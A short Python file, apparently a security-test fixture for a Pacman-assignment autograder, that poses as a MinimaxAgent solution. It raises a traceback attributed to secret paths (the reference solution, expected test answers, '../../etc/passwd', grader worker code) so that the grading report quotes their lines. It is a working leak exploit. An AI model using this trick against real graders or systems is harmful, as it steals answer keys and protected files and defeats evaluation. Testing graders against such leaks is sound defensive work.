# attack: raises an error whose lines seem to come from a secret file, for the report to quote them.
# where: MinimaxAgent
import linecache
import os

from shared.reflex import *
from shared.search import *

SECRETS = [
    "agents/search.py",
    "test_cases/q2/1.expected.yaml",
    "../../etc/passwd",
    "worker/jobs.py",
]
VARIANT = 0  # of len(SECRETS); a test writes other numbers here


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        import pacman

        root = os.path.dirname(os.path.dirname(os.path.abspath(pacman.__file__)))
        secret = os.path.join(root, SECRETS[VARIANT % len(SECRETS)])
        scope = {}
        exec(
            compile("\n" * 3 + "def f(n):\n    return f(n - 1) if n else 1 / 0", secret, "exec"),
            scope,
        )
        linecache.cache.clear()
        scope["f"](20)
